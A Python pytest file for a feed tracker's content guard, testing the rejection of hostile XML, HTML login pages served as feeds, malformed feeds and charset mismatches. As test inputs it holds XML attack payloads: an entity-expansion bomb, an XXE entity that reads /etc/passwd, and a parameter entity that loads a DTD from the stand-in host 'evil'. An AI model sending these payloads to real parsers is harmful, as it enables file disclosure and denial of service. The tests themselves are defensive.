"""The checks on fetched bytes before parsing: hostile XML, wrong content, lying charsets."""

from __future__ import annotations

import pytest

from tracker.items import RawDocument
from tracker.sources.guard import ContentError, check_document, hostile_xml, well_formed

RSS = '<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel><title>t</title></channel></rss>'


def _raw(body: bytes | str, content_type: str | None = "application/rss+xml") -> RawDocument:
    data = body.encode("utf-8") if isinstance(body, str) else body
    return RawDocument(url="https://example.org/feed", body=data, source="s", content_type=content_type)


@pytest.mark.parametrize(
    "body",
    [
        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><rss>&b;</rss>',
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss>&x;</rss>',
        '\ufeff<?xml version="1.0"?>\n<!-- hi -->\n<!DOCTYPE rss [\n <!entity % p SYSTEM "http://evil/x.dtd"> %p;\n]><rss/>',
        '<!DOCTYPE html [<!ENTITY x "y">]><html><body>&x;</body></html>',
    ],
)
def test_entity_declarations_are_refused_for_any_kind(body: str) -> None:
    assert hostile_xml(body.encode("utf-8"))
    for kind in ("whats-new", "html", "auto"):
        with pytest.raises(ContentError) as exc:
            check_document(_raw(body), kind)
        assert exc.value.kind == "hostile" and exc.value.url == "https://example.org/feed"


def test_external_dtd_without_entities_is_fine() -> None:
    body = (
        '<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        '"http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"><channel/></rss>'
    )
    assert not hostile_xml(body.encode())
    assert check_document(_raw(body), "feed").body == body.encode()


def test_entities_mentioned_in_a_post_body_are_not_hostile() -> None:
    body = "# XXE\n\n```xml\n<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>\n```\n"
    assert check_document(_raw(body, "text/markdown"), "markdown").body == body.encode()


def test_html_page_for_a_feed_source_is_refused_with_its_title() -> None:
    page = "<!doctype html><html><head><title>Sign in</title></head><body>Please log in</body></html>"
    with pytest.raises(ContentError) as exc:
        check_document(_raw(page, "text/html"), "news-blog")
    assert exc.value.kind == "content" and "Sign in" in exc.value.message
    # The same page is fine for an html source.
    check_document(_raw(page, "text/html"), "html")


@pytest.mark.parametrize(
    "body",
    [
        RSS,
        "\n\n  " + RSS,
        '{"version": "https://jsonfeed.org/version/1.1", "items": []}',
        '<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title></feed>',
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>',
    ],
)
def test_feeds_pass(body: str) -> None:
    check_document(_raw(body), "whats-new")


def test_malformed_feed_is_refused() -> None:
    with pytest.raises(ContentError) as exc:
        check_document(_raw(RSS[: len(RSS) // 2 + 10]), "whats-new")
    assert exc.value.kind == "malformed"
    assert well_formed(RSS.encode()) is None


def test_wrong_encoding_declaration_is_not_malformed() -> None:
    latin = RSS.replace("<title>t</title>", "<title>Café</title>").encode("latin-1")  # declares UTF-8
    assert well_formed(latin) is None


def test_utf8_body_under_a_latin1_header_is_read_as_utf8() -> None:
    body = RSS.replace("<title>t</title>", "<title>Café</title>")
    fixed = check_document(_raw(body, "application/rss+xml; charset=ISO-8859-1"), "whats-new")
    assert fixed.content_type == "application/rss+xml; charset=utf-8"
    # Real Latin-1 bytes keep their declared charset.
    latin = check_document(_raw(body.encode("latin-1"), "text/xml; charset=iso-8859-1"), "auto")
    assert latin.content_type == "text/xml; charset=iso-8859-1"
